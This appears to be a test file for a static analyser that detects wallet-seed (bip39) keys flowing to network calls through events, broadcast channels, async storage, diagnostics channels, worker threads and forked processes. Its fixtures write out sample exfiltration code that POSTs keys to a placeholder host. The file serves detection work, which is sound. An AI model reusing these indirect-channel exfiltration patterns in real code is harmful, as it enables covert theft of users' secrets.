import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript } from './testing/keySent.ts';

const SAME_FILE: readonly KeyProgram[] = [
  [
    'an event',
    '',
    `const bus = new EventTarget(); bus.addEventListener('a', (e) => send(e.detail)); bus.dispatchEvent(new CustomEvent('a', { detail: k }))`,
    true,
  ],
  [
    'an event with more inside',
    '',
    `const bus = new EventTarget(); bus.addEventListener('a', (e) => send(e.detail.v)); bus.dispatchEvent(new CustomEvent('a', { detail: { v: k } }))`,
    true,
  ],
  [
    'a channel by its name',
    `new BroadcastChannel('a').onmessage = (e) => send(e.data)`,
    `new BroadcastChannel('a').postMessage(k)`,
    true,
  ],
  [
    'a channel that is listened to',
    `new BroadcastChannel('a').addEventListener('message', (e) => send(e.data.v))`,
    `new BroadcastChannel('a').postMessage({ v: k })`,
    true,
  ],
  [
    'ports',
    '',
    `const { port1, port2 } = new MessageChannel(); port2.onmessage = (e) => send(e.data); port1.postMessage(k)`,
    true,
  ],
  [
    'a storage',
    `const { AsyncLocalStorage } = require('async_hooks'); const kept = new AsyncLocalStorage(); const later = () => send(kept.getStore())`,
    `kept.run(k, () => later())`,
    true,
  ],
  [
    'a storage that is entered',
    `const kept = new (require('node:async_hooks').AsyncLocalStorage)(); const later = () => send(kept.getStore().v)`,
    `kept.enterWith({ v: k }); later()`,
    true,
  ],
  [
    'what is published',
    `const dc = require('diagnostics_channel'); dc.subscribe('a', (m) => send(m.v))`,
    `dc.channel('a').publish({ v: k })`,
    true,
  ],
  [
    'what is published to who has the channel',
    `const a = require('diagnostics_channel').channel('a'); a.subscribe((m) => send(m))`,
    `a.publish(k)`,
    true,
  ],
  [
    'another event',
    '',
    `const bus = new EventTarget(); bus.addEventListener('b', (e) => send(e.detail)); bus.dispatchEvent(new CustomEvent('a', { detail: k }))`,
    false,
  ],
  [
    'another part of the event',
    '',
    `const bus = new EventTarget(); bus.addEventListener('a', (e) => send(e.detail.w)); bus.dispatchEvent(new CustomEvent('a', { detail: { v: k, w: 1 } }))`,
    false,
  ],
  [
    'a channel by another name',
    `new BroadcastChannel('b').onmessage = (e) => send(e.data)`,
    `new BroadcastChannel('a').postMessage(k)`,
    false,
  ],
  [
    'another part of the message',
    `new BroadcastChannel('a').onmessage = (e) => send(e.data.w)`,
    `new BroadcastChannel('a').postMessage({ v: k, w: 1 })`,
    false,
  ],
  [
    'a socket',
    `new WebSocket('wss://example.invalid').onmessage = (e) => send(e.data)`,
    `new BroadcastChannel('a').postMessage(k)`,
    false,
  ],
  [
    'another storage',
    `const { AsyncLocalStorage } = require('async_hooks'); const a = new AsyncLocalStorage(), b = new AsyncLocalStorage()`,
    `a.run(k, () => send(b.getStore()))`,
    false,
  ],
  [
    'what is published elsewhere',
    `const dc = require('diagnostics_channel'); dc.subscribe('b', (m) => send(m.v))`,
    `dc.channel('a').publish({ v: k })`,
    false,
  ],
];

describe('ways on which the runtime hands on', () => {
  it.each(SAME_FILE)('%s', async (_, before, body, isSent) => {
    const found = await keySentInJavaScript(before, body);
    expect(found).toEqual(isSent ? ['high'] : []);
  });
});

const USES = `const use = (x) => require('bip39').mnemonicToSeed(x);`;
const WORKER = `const { parentPort, workerData } = require('worker_threads'); const send = (x) => fetch('https://example.invalid', { method: 'POST', body: x });`;
const THREADS = `const { Worker } = require('worker_threads');`;

async function sent(starts: string, runs: string): Promise<string[]> {
  const { flows } = await analyseSources({
    'lib/main.js': `${USES} ${starts}`,
    'lib/other.js': runs,
  });
  return flows.filter((one) => one.source === 'key' && one.sink === 'network').map((one) => one.confidence);
}
const TAKES = `${WORKER} parentPort.on('message', (m) => send(m.v));`;
const posts = (file: string) =>
  `${THREADS} const w = new Worker(${file}); exports.f = (k) => { use(k); w.postMessage({ v: k }) };`;

const BETWEEN_FILES: readonly (readonly [what: string, starts: string, runs: string, found: readonly string[]])[] = [
  ['a worker by its file', posts(`'./other.js'`), TAKES, ['high']],
  ['a worker whose file is resolved', posts(`require.resolve('./other')`), TAKES, ['high']],
  ['a worker beside the file', posts(`require('path').join(__dirname, 'other.js')`), TAKES, ['high']],
  ['a worker by its address', posts(`new URL('other.js', import.meta.url)`), TAKES, ['high']],
  ['a worker of which nobody knows the file', posts(`process.argv[2]`), TAKES, ['medium']],
  [
    'a worker of a browser',
    `const w = new Worker(new URL('./other.js', import.meta.url)); exports.f = (k) => { use(k); w.postMessage(k) };`,
    `${WORKER} self.onmessage = ({ data }) => send(data);`,
    ['high'],
  ],
  [
    'a worker of a browser that listens',
    `const w = new Worker('./other.js'); exports.f = (k) => { use(k); w.postMessage(k) };`,
    `${WORKER} addEventListener('message', (e) => send(e.data));`,
    ['high'],
  ],
  [
    'a worker that has a handler by its name',
    `const w = new Worker('./other.js'); exports.f = (k) => { use(k); w.postMessage(k) };`,
    `${WORKER} onmessage = (e) => send(e.data);`,
    ['high'],
  ],
  [
    'what a worker answers',
    `const send = (x) => fetch('https://example.invalid', { body: x }); ${THREADS} new Worker('./other.js').on('message', (m) => send(m));`,
    `${USES} const { parentPort } = require('worker_threads'); exports.f = (k) => { use(k); parentPort.postMessage(k) };`,
    ['high'],
  ],
  [
    'what a worker is made with',
    `${THREADS} exports.f = (k) => { use(k); new Worker('./other.js', { workerData: { v: k } }) };`,
    `${WORKER} send(workerData.v);`,
    ['high'],
  ],
  [
    'another process',
    `const c = require('child_process').fork('./other.js'); exports.f = (k) => { use(k); c.send({ v: k }) };`,
    `${WORKER} process.on('message', (m) => send(m.v));`,
    ['high'],
  ],
  ['another part of the message', posts(`'./other.js'`), `${WORKER} parentPort.on('message', (m) => send(m.w));`, []],
  [
    'another part of what a worker is made with',
    `${THREADS} exports.f = (k) => { use(k); new Worker('./other.js', { workerData: { v: k, w: 1 } }) };`,
    `${WORKER} send(workerData.w);`,
    [],
  ],
  [
    'a socket that has messages too',
    posts(`'./other.js'`),
    `${WORKER} new (require('ws'))('wss://example.invalid').on('message', (m) => send(m));`,
    [],
  ],
];

describe('messages between threads and processes', () => {
  it.each(BETWEEN_FILES)('%s', async (_, starts, runs, found) => {
    expect(await sent(starts, runs)).toEqual(found);
  });
});
